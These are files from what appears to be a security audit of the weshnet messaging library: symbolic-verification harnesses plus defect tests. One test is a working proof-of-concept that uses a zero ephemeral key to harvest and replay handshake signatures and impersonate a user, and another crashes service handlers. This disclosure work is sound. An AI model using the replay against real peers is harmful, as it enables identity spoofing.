    def pick_id(I, args, ins):
        name = gostr(args[0])
        ents = args[1].elems() if args[1] is not None else []
        alts = ['nil'] + list(range(len(ents))) + ['unknown']
        k = I.fresh_int(name + '.choice')
        I.register_input(name + '.choice', k)
        i = I.decide([k == j for j in range(len(alts))], 'pickID')
        a = alts[i]
        if a == 'nil':
            return None
        if a == 'unknown':
            t = I.fresh_term(name + '.unknown')
            I.register_input(name + '.unknown', t)
            for e in ents:
                I.add(t != e.v.t)
            return TermBytes(t)
        return TermBytes(ents[a].v.t)

    I.intrinsics['verif_anyEntries'] = any_entries
    I.intrinsics['verif_pickID'] = pick_id
    I.methods[('entry', 'GetHash')] = lambda I, a, ins: cid_value(I, a[0].t)
    I.contracts['(%s).Bytes' % CID] = lambda I, a, ins: bytes_of(I, a[0])
    I.contracts['(%s).String' % CID] = lambda I, a, ins: SymStr(T.app('cidstr', cid_term(I, a[0])))
    I.contracts['(%s).Defined' % CID] = lambda I, a, ins: I.equal(a[0][0], '') is not True if isinstance(a[0][0], str) else True
    I.contracts['(%s).Equals' % CID] = lambda I, a, ins: I.equal(a[0], a[1])

    def cid_from_bytes(I, args, ins):
        from .base import mk_error
        b = args[0]
        t = I.bytes_term(b)
        n = I.len_of(b)
        valid = I.fresh_bool('cid-parses')
        # bytes produced by Cid.Bytes() always parse back to the same CID; other bytes may or may not parse
        if isinstance(b, TermBytes) and T.app_name(b.t) is None and not I.path.ghost.get('cid_bytes_known', {}).get(b.t.sexpr()):
            if not I.fork_bool(valid, 'cid-parse'):
                tt = I.prog.type_by_str(CID)
                return (0, SV([''], tt.id if tt else 0), mk_error(I, 'invalid cid'))
        return (n, cid_value(I, t), None)

    I.contracts['github.com/ipfs/go-cid.CidFromBytes'] = cid_from_bytes


def bytes_of(I, c):
    s = c[0]
    I.path.ghost.setdefault('cid_bytes_known', {})[I.str_term(s).sexpr()] = True
    if isinstance(s, str):
        if s == '':
            return SliceVal(AV([]), 0, 0, 0)
        el = list(s.encode('latin-1'))
        return SliceVal(AV(el), 0, len(el), len(el))
    return TermBytes(s.t)
