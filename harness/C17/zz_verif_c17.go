package rendezvous

import (
	"time"
)

func verif_anyTime(name string) time.Time         { panic("intrinsic") }
func verif_anyInterval(name string) time.Duration  { panic("intrinsic") }
func verif_fireTimers() int                        { panic("intrinsic") }
func verif_timersNotBefore(t time.Time, first int) bool { panic("intrinsic") }
func verif_pendingTimers() int                     { panic("intrinsic") }

func verifAbs(d time.Duration) time.Duration {
	if d < 0 {
		return -d
	}
	return d
}

// VerifC17Round: r = RoundTimePeriod(t, I) is the start of the period containing t, NextTimePeriod = r + |I|.
func VerifC17Round(ivSecs int64) {
	t := verif_anyTime("t")
	iv := time.Duration(ivSecs) * time.Second
	secs := int64(verifAbs(iv) / time.Second)
	r := RoundTimePeriod(t, iv)
	verif_assert(r.Unix() <= t.Unix(), "C17.round: period start is not after t")
	verif_assert(t.Unix() < r.Unix()+secs, "C17.round: t lies before the next period start")
	verif_assert(r.Unix()%secs == 0, "C17.round: period starts are multiples of the interval")
	n := NextTimePeriod(t, iv)
	verif_assert(n.Unix() == r.Unix()+secs, "C17.round: next period = start + interval")
	verif_assert(RoundTimePeriod(t, -iv).Unix() == r.Unix(), "C17.round: a negative interval behaves as its absolute value")
	verif_reach("C17.round.ok")
}

// VerifC17Digest: the point is a deterministic keyed digest: equal within a period, different across periods/seeds/topics.
func VerifC17Digest(ivSecs int64) {
	iv := time.Duration(ivSecs) * time.Second
	t1 := verif_anyTime("t1")
	t2 := verif_anyTime("t2")
	topic := verif_anyBytesNonNil("topic")
	seed := verif_anyBytesNonNil("seed")
	p1 := GenerateRendezvousPointForPeriod(topic, seed, RoundTimePeriod(t1, iv))
	p2 := GenerateRendezvousPointForPeriod(topic, seed, RoundTimePeriod(t2, iv))
	same := RoundTimePeriod(t1, iv).Unix() == RoundTimePeriod(t2, iv).Unix()
	if same {
		verif_assert(verif_bytesEq(p1, p2), "C17.digest: same period, topic, seed -> same point")
	} else {
		verif_assert(!verif_bytesEq(p1, p2), "C17.digest: different period -> different point")
	}
	seed2 := verif_anyBytesNonNil("seed2")
	if !verif_bytesEq(seed, seed2) {
		p3 := GenerateRendezvousPointForPeriod(topic, seed2, RoundTimePeriod(t1, iv))
		verif_assert(!verif_bytesEq(p1, p3), "C17.digest: different seed -> different point")
	}
	topic2 := verif_anyBytesNonNil("topic2")
	if !verif_bytesEq(topic, topic2) {
		p4 := GenerateRendezvousPointForPeriod(topic2, seed, RoundTimePeriod(t1, iv))
		verif_assert(!verif_bytesEq(p1, p4), "C17.digest: different topic -> different point")
	}
	verif_assert(len(p1) == 32, "C17.digest: 32-byte digest")
	verif_reach("C17.digest.ok")
}

// VerifC17Resolve: a peer that registered at any earlier time resolves the topic to the point of a period
// overlapping the call, with a deadline in the future.
func VerifC17Resolve(ivSecs int64, lookups int) {
	iv := time.Duration(ivSecs) * time.Second
	secs := int64(iv / time.Second)
	r := NewRotationInterval(iv)
	topic := "topic"
	seed := verif_anyBytesNonNil("seed")
	r.RegisterRotation(time.Now(), topic, seed)
	for i := 0; i < lookups; i++ {
		before := time.Now()
		p, err := r.PointForTopic(topic)
		after := time.Now()
		verif_assert(err == nil && p != nil, "C17.resolve: a registered topic resolves")
		if err != nil || p == nil {
			return
		}
		start := p.Deadline().Unix() - secs
		verif_assert(p.Deadline().After(before), "C17.resolve: deadline of the resolved point is in the future")
		verif_assert(start <= after.Unix(), "C17.resolve: the resolved period has started")
		verif_assert(start%secs == 0, "C17.resolve: deadline is a period boundary")
		want := GenerateRendezvousPointForPeriod([]byte(topic), seed, time.Unix(start, 0))
		verif_assert(verif_bytesEq(p.RawRotationTopic(), want), "C17.resolve: point is the digest of its period")
		verif_assert(p.Topic() == topic, "C17.resolve: point designates the topic")
	}
	verif_reach("C17.resolve.ok")
}

// VerifC17Agree: two peers registered at different times that have both resolved the topic within one period
// accept each other's rotation value and map it to the same topic.
func VerifC17Agree(ivSecs int64) {
	iv := time.Duration(ivSecs) * time.Second
	topic := "topic"
	seed := verif_anyBytesNonNil("seed")
	a := NewRotationInterval(iv)
	b := NewRotationInterval(iv)
	a.RegisterRotation(time.Now(), topic, seed)
	b.RegisterRotation(time.Now(), topic, seed)
	t0 := time.Now()
	pa, errA := a.PointForTopic(topic)
	pb, errB := b.PointForTopic(topic)
	t1 := time.Now()
	verif_assert(errA == nil && errB == nil, "C17.agree: both resolve")
	if errA != nil || errB != nil {
		return
	}
	// both resolutions happened inside one period
	verif_assume(RoundTimePeriod(t0, iv).Unix() == RoundTimePeriod(t1, iv).Unix())
	verif_assert(verif_bytesEq(pa.RawRotationTopic(), pb.RawRotationTopic()), "C17.agree: same period -> same rotation value")
	qb, err := b.PointForRawRotation(pa.RawRotationTopic())
	verif_assert(err == nil && qb != nil && qb.Topic() == topic, "C17.agree: B maps A's rotation value back to the topic")
	qa, err := a.PointForRawRotation(pb.RawRotationTopic())
	verif_assert(err == nil && qa != nil && qa.Topic() == topic, "C17.agree: A maps B's rotation value back to the topic")
	verif_reach("C17.agree.ok")
}

// VerifC17Grace: after a rotation the previous rotation value stays accepted until the cleanup fires, and the
// cleanup cannot fire before the new deadline plus the grace argument; unknown values are refused.
func VerifC17Grace(ivSecs int64) {
	iv := time.Duration(ivSecs) * time.Second
	topic := "topic"
	seed := verif_anyBytesNonNil("seed")
	r := NewRotationInterval(iv)
	r.RegisterRotation(time.Now(), topic, seed)
	p0, err := r.PointForTopic(topic)
	if err != nil || p0 == nil {
		verif_assert(false, "C17.grace: registered topic resolves")
		return
	}
	old := p0.RawRotationTopic()
	n0 := verif_pendingTimers()
	t := time.Now()
	// the clock passes the first deadline: the next lookup must rotate
	verif_assume(!p0.Deadline().After(t))
	p1, err := r.PointForTopic(topic)
	verif_assert(err == nil && p1 != nil, "C17.grace: resolves after the deadline")
	if err != nil || p1 == nil {
		return
	}
	verif_assert(!verif_bytesEq(p1.RawRotationTopic(), old), "C17.grace: a new rotation value after the deadline")
	verif_assert(verif_pendingTimers() > n0, "C17.grace: a cleanup of the previous value is scheduled")
	verif_assert(verif_timersNotBefore(p1.Deadline().Add(DefaultRotationInterval), n0), "C17.grace: cleanup of the previous value not before new deadline + grace")
	q, err := r.PointForRawRotation(old)
	verif_assert(err == nil && q != nil && q.Topic() == topic, "C17.grace: previous rotation value accepted during the grace period")
	q, err = r.PointForRawRotation(p1.RawRotationTopic())
	verif_assert(err == nil && q != nil && q.Topic() == topic, "C17.grace: current rotation value accepted")
	verif_reach("C17.grace.ok")
}

// VerifC17Refuse: rotation values of an unregistered topic or of another seed are refused.
func VerifC17Refuse(ivSecs int64) {
	iv := time.Duration(ivSecs) * time.Second
	seed := verif_anyBytesNonNil("seed")
	seed2 := verif_anyBytesNonNil("seed2")
	verif_assume(!verif_bytesEq(seed, seed2))
	r := NewRotationInterval(iv)
	now := time.Now()
	r.RegisterRotation(now, "topic", seed)
	_, err := r.PointForTopic("other")
	verif_assert(err != nil, "C17.refuse: unknown topic refused")
	foreign := GenerateRendezvousPointForPeriod([]byte("other"), seed, RoundTimePeriod(now, iv))
	_, err = r.PointForRawRotation(foreign)
	verif_assert(err != nil, "C17.refuse: rotation value of an unregistered topic refused")
	otherSeed := GenerateRendezvousPointForPeriod([]byte("topic"), seed2, RoundTimePeriod(now, iv))
	_, err = r.PointForRawRotation(otherSeed)
	verif_assert(err != nil, "C17.refuse: rotation value of another seed refused")
	arbitrary := verif_anyBytes("arbitrary")
	own := GenerateRendezvousPointForPeriod([]byte("topic"), seed, RoundTimePeriod(now, iv))
	if !verif_bytesEq(arbitrary, own) {
		_, err = r.PointForRawRotation(arbitrary)
		verif_assert(err != nil, "C17.refuse: any value that is not a registered rotation is refused")
	}
	verif_reach("C17.refuse.ok")
}

func VerifC17Witness(ivSecs int64) {
	iv := time.Duration(ivSecs) * time.Second
	r := NewRotationInterval(iv)
	r.RegisterRotation(time.Now(), "topic", verif_anyBytesNonNil("seed"))
	p, err := r.PointForTopic("topic")
	if err == nil && p != nil {
		verif_assert(false, "C17.witness: reachable")
	}
}
