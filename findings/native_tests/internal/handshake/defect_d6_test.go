package handshake

import (
	"bytes"
	"context"
	crand "crypto/rand"
	"net"
	"testing"
	"time"

	p2pcrypto "github.com/libp2p/go-libp2p/core/crypto"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"golang.org/x/crypto/nacl/box"
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/cryptoutil"
	"berty.tech/weshnet/v2/pkg/protoio"
)

var d6Zero = [cryptoutil.KeySize]byte{} // all-zero (low-order) X25519 public key

// d6K0 is what box.Precompute yields for ANY private key when the peer public key is all-zero:
// HSalsa20(X25519(priv, 0) = 0, 0). The attacker computes it with a throw-away key.
func d6K0(t *testing.T) *[cryptoutil.KeySize]byte {
	_, priv1, err := box.GenerateKey(crand.Reader)
	require.NoError(t, err)
	_, priv2, err := box.GenerateKey(crand.Reader)
	require.NoError(t, err)
	var k1, k2 [cryptoutil.KeySize]byte
	box.Precompute(&k1, &d6Zero, priv1)
	box.Precompute(&k2, &d6Zero, priv2)
	require.Equal(t, k1, k2, "Precompute(zeroPub, priv) must not depend on priv")
	return &k1
}

type d6Conn struct {
	r protoio.Reader
	w protoio.Writer
	c net.Conn
}

func d6Pipe() (d6Conn, d6Conn) {
	a, b := net.Pipe()
	_ = a.SetDeadline(time.Now().Add(10 * time.Second))
	_ = b.SetDeadline(time.Now().Add(10 * time.Second))
	return d6Conn{protoio.NewDelimitedReader(a, 2048), protoio.NewDelimitedWriter(a), a},
		d6Conn{protoio.NewDelimitedReader(b, 2048), protoio.NewDelimitedWriter(b), b}
}

// Harvest variant 1: honest A is REQUESTER towards M (A sends a contact request to M).
// M is a scripted responder that only uses M's own account key and public wire data.
func d6HarvestFromRequester(t *testing.T, aPriv p2pcrypto.PrivKey, mPriv p2pcrypto.PrivKey, k0 *[32]byte) []byte {
	ca, cm := d6Pipe()
	defer ca.c.Close()
	defer cm.c.Close()

	errA := make(chan error, 1)
	go func() {
		errA <- RequestUsingReaderWriter(context.Background(), zap.NewNop(), ca.r, ca.w, aPriv, mPriv.GetPublic())
	}()

	// step 1: receive a
	hello := HelloPayload{}
	require.NoError(t, cm.r.ReadMsg(&hello))
	aEph, err := cryptoutil.KeySliceToArray(hello.EphemeralPubKey)
	require.NoError(t, err)

	// step 2: send b = 0
	require.NoError(t, cm.w.WriteMsg(&HelloPayload{EphemeralPubKey: d6Zero[:]}))

	// step 3: receive box[a.b|a.M](A, sig_A(a.b)); a.b == K0, a.M computable with M's own key
	env := BoxEnvelope{}
	require.NoError(t, cm.r.ReadMsg(&env))
	mMong, err := cryptoutil.EdwardsToMontgomeryPriv(mPriv)
	require.NoError(t, err)
	var aM [32]byte
	box.Precompute(&aM, aEph, mMong)
	boxKey := cryptoutil.ConcatAndHashSha256(k0[:], aM[:])
	clear, ok := box.OpenAfterPrecomputation(nil, env.Box, &nonceRequesterAuthenticate, boxKey)
	require.True(t, ok, "M must be able to open A's authenticate box")
	auth := RequesterAuthenticatePayload{}
	require.NoError(t, proto.Unmarshal(clear, &auth))

	cm.c.Close() // M just hangs up
	<-errA
	return auth.RequesterAccountSig
}

// Harvest variant 2: honest A is RESPONDER (has contact requests enabled), M is a scripted
// requester that authenticates honestly as M but uses a = 0.
func d6HarvestFromResponder(t *testing.T, aPriv p2pcrypto.PrivKey, mPriv p2pcrypto.PrivKey, k0 *[32]byte) []byte {
	ca, cm := d6Pipe()
	defer ca.c.Close()
	defer cm.c.Close()

	type res struct {
		pk  p2pcrypto.PubKey
		err error
	}
	resA := make(chan res, 1)
	go func() {
		pk, err := ResponseUsingReaderWriter(context.Background(), zap.NewNop(), ca.r, ca.w, aPriv)
		resA <- res{pk, err}
	}()

	require.NoError(t, cm.w.WriteMsg(&HelloPayload{EphemeralPubKey: d6Zero[:]}))
	hello := HelloPayload{}
	require.NoError(t, cm.r.ReadMsg(&hello))

	// authenticate honestly as M: box[K0|K0](M, sig_M(K0))
	mID, err := p2pcrypto.MarshalPublicKey(mPriv.GetPublic())
	require.NoError(t, err)
	sigM, err := mPriv.Sign(k0[:])
	require.NoError(t, err)
	payload, err := proto.Marshal(&RequesterAuthenticatePayload{RequesterAccountId: mID, RequesterAccountSig: sigM})
	require.NoError(t, err)
	key3 := cryptoutil.ConcatAndHashSha256(k0[:], k0[:])
	require.NoError(t, cm.w.WriteMsg(&BoxEnvelope{Box: box.SealAfterPrecomputation(nil, payload, &nonceRequesterAuthenticate, key3)}))

	// step 4: box[K0|A.M](sig_A(K0)); A.M computable by M with its own key and A's public key
	env := BoxEnvelope{}
	require.NoError(t, cm.r.ReadMsg(&env))
	mMong, aMong, err := cryptoutil.EdwardsToMontgomery(mPriv, aPriv.GetPublic())
	require.NoError(t, err)
	var am [32]byte
	box.Precompute(&am, aMong, mMong)
	key4 := cryptoutil.ConcatAndHashSha256(k0[:], am[:])
	clear, ok := box.OpenAfterPrecomputation(nil, env.Box, &nonceResponderAccept, key4)
	require.True(t, ok, "M must be able to open A's accept box")
	acc := ResponderAcceptPayload{}
	require.NoError(t, proto.Unmarshal(clear, &acc))

	require.NoError(t, cm.w.WriteMsg(&RequesterAcknowledgePayload{Success: true}))
	r := <-resA
	require.NoError(t, r.err)
	require.True(t, r.pk.Equals(mPriv.GetPublic()))
	return acc.ResponderAccountSig
}

// Replay: scripted requester knows ONLY A's public key, sig_A(K0) and K0. No private key of A,
// no private key of B, not even B's public key is needed.
func d6Impersonate(t *testing.T, aPub p2pcrypto.PubKey, sigA []byte, bPriv p2pcrypto.PrivKey, k0 *[32]byte) (p2pcrypto.PubKey, error) {
	cb, cx := d6Pipe()
	defer cb.c.Close()
	defer cx.c.Close()

	type res struct {
		pk  p2pcrypto.PubKey
		err error
	}
	resB := make(chan res, 1)
	go func() {
		pk, err := ResponseUsingReaderWriter(context.Background(), zap.NewNop(), cb.r, cb.w, bPriv)
		resB <- res{pk, err}
	}()

	// step 1: a = 0
	require.NoError(t, cx.w.WriteMsg(&HelloPayload{EphemeralPubKey: d6Zero[:]}))
	// step 2: b (ignored)
	hello := HelloPayload{}
	require.NoError(t, cx.r.ReadMsg(&hello))

	// step 3: key = H(a.b | a.B) = H(K0 | K0) because a = 0 makes BOTH DH results degenerate
	aID, err := p2pcrypto.MarshalPublicKey(aPub)
	require.NoError(t, err)
	payload, err := proto.Marshal(&RequesterAuthenticatePayload{RequesterAccountId: aID, RequesterAccountSig: sigA})
	require.NoError(t, err)
	key3 := cryptoutil.ConcatAndHashSha256(k0[:], k0[:])
	require.NoError(t, cx.w.WriteMsg(&BoxEnvelope{Box: box.SealAfterPrecomputation(nil, payload, &nonceRequesterAuthenticate, key3)}))

	// step 4: B's accept box[K0|A.B](sig_B(K0)): cannot be opened by the attacker, not needed
	env := BoxEnvelope{}
	if err := cx.r.ReadMsg(&env); err != nil {
		r := <-resB
		return r.pk, r.err
	}
	// step 5: ack
	_ = cx.w.WriteMsg(&RequesterAcknowledgePayload{Success: true})

	r := <-resB
	return r.pk, r.err
}

func TestD6_LowOrderEphemeralImpersonation(t *testing.T) {
	aPriv, aPub, err := p2pcrypto.GenerateEd25519Key(crand.Reader)
	require.NoError(t, err)
	mPriv, _, err := p2pcrypto.GenerateEd25519Key(crand.Reader)
	require.NoError(t, err)
	bPriv, _, err := p2pcrypto.GenerateEd25519Key(crand.Reader)
	require.NoError(t, err)

	k0 := d6K0(t)
	t.Logf("degenerate shared key K0 = %x", k0[:])

	sig1 := d6HarvestFromRequester(t, aPriv, mPriv, k0)
	ok, err := aPub.Verify(k0[:], sig1)
	require.NoError(t, err)
	t.Logf("harvest 1 (A requester -> malicious responder M): got sig_A, valid over K0: %v", ok)
	require.True(t, ok)

	sig2 := d6HarvestFromResponder(t, aPriv, mPriv, k0)
	ok, err = aPub.Verify(k0[:], sig2)
	require.NoError(t, err)
	t.Logf("harvest 2 (malicious requester M -> A responder): got sig_A, valid over K0: %v; identical to harvest 1: %v", ok, bytes.Equal(sig1, sig2))
	require.True(t, ok)

	// A's private key is not used from here on.
	for i := 0; i < 3; i++ {
		pk, err := d6Impersonate(t, aPub, sig1, bPriv, k0)
		if err != nil {
			t.Logf("replay #%d: responder B rejected: %v", i, err)
			continue
		}
		t.Logf("replay #%d: responder B (fresh ephemeral each time) completed the handshake, returned pk == A's account key: %v", i, pk.Equals(aPub))
		if pk.Equals(aPub) {
			t.Errorf("DEFECT: B authenticated the attacker as A without A participating (replayed sig_A over degenerate shared key)")
		}
	}

	// control: the same replay with a non-degenerate ephemeral key must fail
	t.Run("control_non_zero_ephemeral", func(t *testing.T) {
		cb, cx := d6Pipe()
		defer cb.c.Close()
		defer cx.c.Close()
		errB := make(chan error, 1)
		go func() {
			_, err := ResponseUsingReaderWriter(context.Background(), zap.NewNop(), cb.r, cb.w, bPriv)
			errB <- err
		}()
		pub, _, err := box.GenerateKey(crand.Reader)
		require.NoError(t, err)
		require.NoError(t, cx.w.WriteMsg(&HelloPayload{EphemeralPubKey: pub[:]}))
		hello := HelloPayload{}
		require.NoError(t, cx.r.ReadMsg(&hello))
		aID, _ := p2pcrypto.MarshalPublicKey(aPub)
		payload, _ := proto.Marshal(&RequesterAuthenticatePayload{RequesterAccountId: aID, RequesterAccountSig: sig1})
		key3 := cryptoutil.ConcatAndHashSha256(k0[:], k0[:])
		require.NoError(t, cx.w.WriteMsg(&BoxEnvelope{Box: box.SealAfterPrecomputation(nil, payload, &nonceRequesterAuthenticate, key3)}))
		err = <-errB
		t.Logf("control: B's result with honest-looking ephemeral: %v", err)
		require.Error(t, err)
	})
}
