#!/usr/bin/env python3
"""C06: the contact-request handshake authenticates both parties against any peer behaviour."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto, orbit

PKGS = [MOD + '/internal/handshake', MOD + '/pkg/cryptoutil', MOD + '/pkg/errcode', 'encoding/binary']


def install(I):
    TY = 'berty.tech/weshnet/v2/pkg/tyber.'
    I.contracts[TY + 'LogStep'] = lambda I, a, ins: None
    I.contracts[TY + 'ForceReopen'] = lambda I, a, ins: a[0] if a else None
    I.contracts['(*berty.tech/weshnet/v2/internal/handshake.handshakeContext).toTyberStepMutator'] = lambda I, a, ins: None


def main():
    t = tier()
    chk = Check('C06', PKGS, 'internal/handshake', ['C06/zz_verif_c06.go'],
                installers=[crypto.install, crypto.install_proto, install],
                init_pkgs=[MOD + '/pkg/errcode', MOD + '/internal/handshake'], prelude_pkgname='handshake')
    P = MOD + '/internal/handshake.'
    chk.load([P + n for n in ('VerifC06Honest', 'VerifC06Responder', 'VerifC06Requester', 'VerifC06Witness')])
    cfg = {'timeout_ms': 120000, 'unwind': 12, 'dh_low_order': True, 'auto_secrecy': True}
    jobs = [Job(P + 'VerifC06Honest', (0,), cfg=cfg), Job(P + 'VerifC06Honest', (1,), cfg=cfg),
            Job(P + 'VerifC06Responder', (1, 0), cfg=cfg, max_paths=100000), Job(P + 'VerifC06Responder', (1, 1), cfg=cfg, max_paths=100000),
            Job(P + 'VerifC06Requester', (1,), cfg=cfg, max_paths=100000),
            Job(P + 'VerifC06Witness', (), witness=True, cfg=cfg)]
    if t == 'thorough':
        jobs += [Job(P + 'VerifC06Responder', (2, 0), cfg=cfg, max_paths=400000), Job(P + 'VerifC06Responder', (2, 1), cfg=cfg, max_paths=400000),
                 Job(P + 'VerifC06Requester', (2,), cfg=cfg, max_paths=400000)]
    res = chk.run_jobs(jobs)
    chk.cleanup()
    # after the handshake: contactRequestsManager.handleIncomingRequest with an arbitrary announced contact (root package)
    import c03, c19
    from wesym.values import Native, Iface
    from wesym.contracts.base import mk_error

    def install_incoming(I):
        c19.install(I)
        st = {}
        I.intrinsics['verif_handshakePeer'] = lambda I, a, ins: st.__setitem__('pk', a[0])
        I.contracts[MOD + '/internal/handshake.ResponseUsingReaderWriter'] = lambda I, a, ins: (st.get('pk'), None)
        PIO = MOD + '/pkg/protoio.'
        I.contracts[PIO + 'NewDelimitedReader'] = lambda I, a, ins: Iface(-80, Native('peerreader', as_iface=True))
        I.contracts[PIO + 'NewDelimitedWriter'] = lambda I, a, ins: Iface(-81, Native('peerwriter', as_iface=True))

        def read_msg(I, args, ins):
            # the peer controls the message: every field free (nil / free bytes of any length)
            if not I.fork_bool(I.fresh_bool('peer-sends-a-message'), 'peer-read'):
                return mk_error(I, 'stream: read error')
            I.intrinsics['verif_fillAny'](I, [args[1]], ins)
            return None
        I.methods[('peerreader', 'ReadMsg')] = read_msg
        I.methods[('peerwriter', 'WriteMsg')] = lambda I, a, ins: None

        def equal_fold(I, args, ins):
            # bytes.EqualFold: equal inputs fold-equal; unequal inputs may or may not (free)
            import z3
            a, b = I.bytes_term(args[0]), I.bytes_term(args[1])
            r = I.fresh_bool('equalfold')
            I.add(z3.Implies(a == b, r))
            return r
        I.contracts['bytes.EqualFold'] = equal_fold

    chk2 = c03.root_check('C06', ['C06/zz_verif_c06_incoming.go'], extra_installers=[install_incoming])
    chk2.load([MOD + '.VerifC06Incoming'])
    res += chk2.run_jobs([Job(MOD + '.VerifC06Incoming', (), cfg={'timeout_ms': 60000, 'unwind': 12}, max_paths=100000)])
    chk = chk2
    finish(chk, res, t,
           explanation='Symbolic execution of internal/handshake (both roles, all ten step functions, both box-key derivations) against a symbolic peer: every '
                       'incoming frame is a free byte string, account keys of the honest parties are EUF-CMA, X25519 is a free symmetric function that maps '
                       'every low-order point (an uninterpreted predicate the solver may choose) to zero, box keys that depend on the agreement of two honest '
                       'scalars are INT-CTXT, everything else is adversary-known. Recorded honest sessions of the impersonated account provide the signatures '
                       'an attacker can replay; the attacked session must then be one the account really took part in.',
           bounds={'recorded_honest_sessions': '1 (quick) / 2 (thorough)', 'attacked_sessions': 1,
                   'outside': 'the primitives; truncated/oversized frames at the byte level (framing is C18)', 'after_the_handshake': 'contactRequestsManager.handleIncomingRequest with the handshake result an arbitrary authenticated key (contract) and the announced ShareableContact free'},
           assumptions=['X25519 axioms of DESIGN 2.3', 'EUF-CMA for honest account keys', 'INT-CTXT for box keys derived from an honest-honest agreement', 'typed protobuf parse'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
