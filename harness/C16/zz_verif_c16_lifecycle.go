package lifecycle

import (
	"context"
)

func verif_go(name string, f func())    { panic("intrinsic") }
func verif_runThreads()                  { panic("intrinsic") }
func verif_sharedCtx() context.Context   { panic("intrinsic") }
func verif_cancel(ctx context.Context)   { panic("intrinsic") }
func verif_ctx(cancelled bool) context.Context { panic("intrinsic") }

// VerifC16Lifecycle: `waiters` goroutines wait for the state to leave StateActive, one updater moves it to StateInactive
// (after `noise` updates that do not change it), optionally a canceller cancels the waiters' context. Real
// Manager.UpdateState / WaitForStateChange / Notify.Wait / Notify.Broadcast; the schedule is a solver variable.
// No reachable stuck state: a waiter parked while the state differs from what it last saw would be one.
func VerifC16Lifecycle(waiters, noise, withCancel int) {
	m := NewManager(StateActive)
	var ctx context.Context
	if withCancel == 1 {
		ctx = verif_sharedCtx()
	} else {
		ctx = verif_ctx(false)
	}
	for w := 0; w < waiters; w++ {
		verif_go("waiter", func() {
			ok := m.WaitForStateChange(ctx, StateActive)
			if !ok {
				verif_assert(withCancel == 1, "C16.lifecycle: a wait fails only after cancellation")
			}
		})
	}
	verif_go("updater", func() {
		for i := 0; i < noise; i++ {
			m.UpdateState(StateActive)
		}
		m.UpdateState(StateInactive)
	})
	if withCancel == 1 {
		verif_go("canceller", func() { verif_cancel(ctx) })
	}
	verif_runThreads()
	verif_reach("C16.lifecycle.ok")
}
