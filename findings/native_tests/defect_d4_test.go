package weshnet

import (
	"context"
	crand "crypto/rand"
	"fmt"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/stretchr/testify/require"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// callRecover runs f and reports the panic value, if any.
func callRecover(f func() error) (err error, panicked bool, pv any) {
	defer func() {
		if r := recover(); r != nil {
			panicked, pv = true, r
		}
	}()
	err = f()
	return
}

func report(t *testing.T, name string, err error, panicked bool, pv any) {
	if panicked {
		t.Errorf("DEFECT %s: PANIC: %v (%T)", name, pv, pv)
	} else {
		t.Logf("%s: no panic, err=%v", name, err)
	}
}

func TestD4a_DecodeContactMalformed(t *testing.T) {
	ctx := context.Background()
	// the handler does not touch any service field, a zero service is enough
	s := &service{}
	for _, in := range [][]byte{{0xff}, {0x0a, 0x05, 0x01}, []byte("not a protobuf")} {
		err, p, pv := callRecover(func() error {
			_, err := s.DecodeContact(ctx, &protocoltypes.DecodeContact_Request{EncodedContact: in})
			return err
		})
		report(t, fmt.Sprintf("DecodeContact(%x)", in), err, p, pv)
	}
}

func TestD4bc_ServiceHandlers(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	tp, cleanup := NewTestingProtocol(ctx, t, nil, nil)
	defer cleanup()
	s := tp.Service.(*service)

	// (c) MultiMemberGroupJoin with req.Group == nil, account group available
	err, p, pv := callRecover(func() error {
		_, err := s.MultiMemberGroupJoin(ctx, &protocoltypes.MultiMemberGroupJoin_Request{Group: nil})
		return err
	})
	report(t, "MultiMemberGroupJoin(Group=nil)", err, p, pv)

	// deactivate the account group via the public API
	cfg, err := tp.Client.ServiceGetConfiguration(ctx, &protocoltypes.ServiceGetConfiguration_Request{})
	require.NoError(t, err)
	_, err = tp.Client.DeactivateGroup(ctx, &protocoltypes.DeactivateGroup_Request{GroupPk: cfg.AccountGroupPk})
	require.NoError(t, err)
	require.Nil(t, s.getAccountGroup(), "account group should be nil after DeactivateGroup")
	t.Logf("account group deactivated: getAccountGroup()==nil")

	_, pub, err := crypto.GenerateEd25519Key(crand.Reader)
	require.NoError(t, err)
	pkb, err := pub.Raw()
	require.NoError(t, err)

	// (b)
	err, p, pv = callRecover(func() error {
		_, err := s.ContactBlock(ctx, &protocoltypes.ContactBlock_Request{ContactPk: pkb})
		return err
	})
	report(t, "ContactBlock(after deactivation)", err, p, pv)

	err, p, pv = callRecover(func() error {
		_, err := s.ContactUnblock(ctx, &protocoltypes.ContactUnblock_Request{ContactPk: pkb})
		return err
	})
	report(t, "ContactUnblock(after deactivation)", err, p, pv)

	// extra: handlers that read s.accountGroupCtx directly
	err, p, pv = callRecover(func() error {
		_, err := s.CredentialVerificationServiceInitFlow(ctx, &protocoltypes.CredentialVerificationServiceInitFlow_Request{ServiceUrl: "http://127.0.0.1:1", PublicKey: pkb, Link: "x"})
		return err
	})
	report(t, "CredentialVerificationServiceInitFlow(after deactivation)", err, p, pv)

	err, p, pv = callRecover(func() error {
		return s.VerifiedCredentialsList(&protocoltypes.VerifiedCredentialsList_Request{}, nil)
	})
	report(t, "VerifiedCredentialsList(after deactivation)", err, p, pv)

	// control: a handler WITH the nil check
	err, p, pv = callRecover(func() error {
		_, err := s.ContactRequestDisable(ctx, &protocoltypes.ContactRequestDisable_Request{})
		return err
	})
	report(t, "ContactRequestDisable(after deactivation) [control]", err, p, pv)
}
