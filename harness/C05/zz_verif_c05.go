package secretstore

import (
	"github.com/libp2p/go-libp2p/core/crypto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func verif_secretBoxKey(priv crypto.PrivKey, pub crypto.PubKey) { panic("intrinsic") }

// VerifC05Exact: an announcement made at an arbitrary sender state (ck, n) opens at the intended member to exactly
// (ck, n); registering it makes the sender known.
func VerifC05Exact(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
